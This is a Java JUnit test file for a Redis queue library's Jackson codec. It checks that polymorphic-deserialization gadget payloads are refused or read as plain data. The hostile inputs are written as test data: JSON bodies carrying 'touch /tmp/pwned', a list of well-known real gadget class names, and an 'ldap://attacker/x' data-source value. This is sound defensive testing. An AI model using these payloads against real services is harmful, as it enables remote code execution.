package io.queuekit.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.annotation.JsonSubTypes;
import com.fasterxml.jackson.annotation.JsonTypeInfo;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.jsontype.impl.LaissezFaireSubTypeValidator;
import io.queuekit.Codec;
import io.queuekit.ConsumeOptions;
import io.queuekit.DeadLetter;
import io.queuekit.MessageQueue;
import io.queuekit.SerializationException;
import io.queuekit.redis.JacksonCodec;
import io.queuekit.testing.RedisClients;
import io.queuekit.testing.RedisServer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import redis.clients.jedis.RedisClient;

/**
 * The Jackson codec decodes only into the type it was made for: class names in a body, the way in
 * for Jackson's deserialization gadgets, are refused or read as plain data, and never instantiate
 * anything. Each attack is first shown to work against a mapper that trusts type information, so
 * the payloads are real.
 */
@Timeout(value = 30, unit = TimeUnit.SECONDS)
class JacksonCodecGadgetTest {
    /** Stands in for a gadget class: counts its instances and the "commands" set on it. */
    public static final class Gadget {
        static final AtomicInteger CREATED = new AtomicInteger();
        static final AtomicInteger COMMANDS = new AtomicInteger();

        public Gadget() {
            CREATED.incrementAndGet();
        }

        public void setCommand(String command) {
            COMMANDS.incrementAndGet();
        }
    }

    /** A payload with an untyped field, which default typing would fill with any class named in the body. */
    public record Untyped(String name, Object data) {}

    /** A payload whose field takes class names from the body ({@code @JsonTypeInfo(use = CLASS)}). */
    public record ClassTagged(
            @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class")
            Object data) {}

    /** Polymorphism by declared logical names, which stays allowed. */
    @JsonTypeInfo(use = JsonTypeInfo.Id.NAME, property = "type")
    @JsonSubTypes({@JsonSubTypes.Type(value = Circle.class, name = "circle")})
    public interface Shape {}

    public record Circle(double radius) implements Shape {}

    private static final String GADGET = Gadget.class.getName();
    private static final String DEFAULT_TYPING_ATTACK =
            "{\"name\":\"n\",\"data\":[\"" + GADGET + "\",{\"command\":\"touch /tmp/pwned\"}]}";
    private static final String CLASS_PROPERTY_ATTACK =
            "{\"data\":{\"@class\":\"" + GADGET + "\",\"command\":\"touch /tmp/pwned\"}}";

    @BeforeEach
    void reset() {
        Gadget.CREATED.set(0);
        Gadget.COMMANDS.set(0);
    }

    @Test
    void defaultTypingPayload_aimedAtAnObjectField_isReadAsPlainData() throws Exception {
        ObjectMapper trusting = new ObjectMapper()
                .activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);
        trusting.readValue(DEFAULT_TYPING_ATTACK, Untyped.class);
        assertThat(Gadget.CREATED).as("the attack works on a trusting mapper").hasPositiveValue();
        reset();

        for (JacksonCodec<Untyped> codec :
                List.of(JacksonCodec.of(Untyped.class), JacksonCodec.of(trusting, Untyped.class))) {
            Untyped decoded = codec.decode(DEFAULT_TYPING_ATTACK.getBytes(StandardCharsets.UTF_8));
            assertThat(decoded.data()).as(codec + ": the class name is data").isInstanceOf(List.class);
            assertThat(((List<?>) decoded.data()).get(0)).isEqualTo(GADGET);
        }
        assertThat(Gadget.CREATED).as("gadgets instantiated").hasValue(0);
        assertThat(Gadget.COMMANDS).hasValue(0);
    }

    @Test
    void classNameProperty_isRefused_evenOnAFieldThatAsksForClassNames() throws Exception {
        new ObjectMapper().readValue(CLASS_PROPERTY_ATTACK, ClassTagged.class);
        assertThat(Gadget.CREATED).as("the attack works on a plain mapper").hasPositiveValue();
        reset();

        JacksonCodec<ClassTagged> codec = JacksonCodec.of(ClassTagged.class);
        assertThatThrownBy(() -> codec.decode(CLASS_PROPERTY_ATTACK.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(SerializationException.class)
                .hasMessageContaining(GADGET);
        assertThat(Gadget.CREATED).hasValue(0);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "com.sun.rowset.JdbcRowSetImpl",
                "org.springframework.context.support.ClassPathXmlApplicationContext",
                "ch.qos.logback.core.db.DriverManagerConnectionSource",
                "com.zaxxer.hikari.HikariConfig",
                "org.apache.commons.collections.functors.InvokerTransformer",
                "java.lang.ProcessBuilder",
                "javax.script.ScriptEngineManager"
            })
    void wellKnownGadgetClassNames_areRefused(String gadget) {
        JacksonCodec<ClassTagged> codec = JacksonCodec.of(ClassTagged.class);
        String body = "{\"data\":{\"@class\":\"" + gadget + "\",\"dataSourceName\":\"ldap://attacker/x\"}}";
        assertThatThrownBy(() -> codec.decode(body.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(SerializationException.class);
    }

    @Test
    void logicalTypeNames_stillWork() {
        JacksonCodec<Shape> codec = JacksonCodec.of(Shape.class);
        assertThat(codec.decode("{\"type\":\"circle\",\"radius\":2.0}".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(new Circle(2.0));
        assertThat(new String(codec.encode(new Circle(1.0)), StandardCharsets.UTF_8))
                .contains("\"circle\"");
    }

    @Test
    void theCallersMapper_isNotChanged() {
        ObjectMapper trusting = new ObjectMapper()
                .activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);
        JacksonCodec.of(trusting, Untyped.class);
        assertThat(trusting.getSerializationConfig().getDefaultTyper(null))
                .as("still the caller's choice")
                .isNotNull();
    }

    /** A gadget written into a queue by someone with write access to Redis is dead-lettered, never run. */
    @Test
    void gadgetInAQueue_isDeadLetteredAsUndecodable_andNothingIsInstantiated() {
        try (RedisServer server = RedisServer.builder().requireProcessControl().start();
                RedisClient client = RedisClients.builder(server).poolSize(4).build();
                MessageQueue<ClassTagged> q = Transport.LIST_AT_LEAST_ONCE.build(
                        client, "gadget", JacksonCodec.of(ClassTagged.class), b -> b);
                MessageQueue<String> attacker =
                        Transport.LIST_AT_LEAST_ONCE.build(client, "gadget", Codec.utf8(), b -> b)) {
            attacker.send(CLASS_PROPERTY_ATTACK);
            AtomicInteger handled = new AtomicInteger();
            q.consume(
                    d -> {
                        d.payload();
                        handled.incrementAndGet();
                    },
                    ConsumeOptions.builder().pollTimeout(Duration.ofMillis(200)).build());
            await().atMost(Duration.ofSeconds(10)).until(() -> q.stats().dead() == 1);
            assertThat(handled).as("handler calls that got a payload").hasValue(0);
            DeadLetter<ClassTagged> dead = q.deadLetters().list(1).get(0);
            assertThat(dead.reason()).startsWith("undecodable: ").contains(GADGET);
            assertThat(Gadget.CREATED).hasValue(0);
        }
    }
}
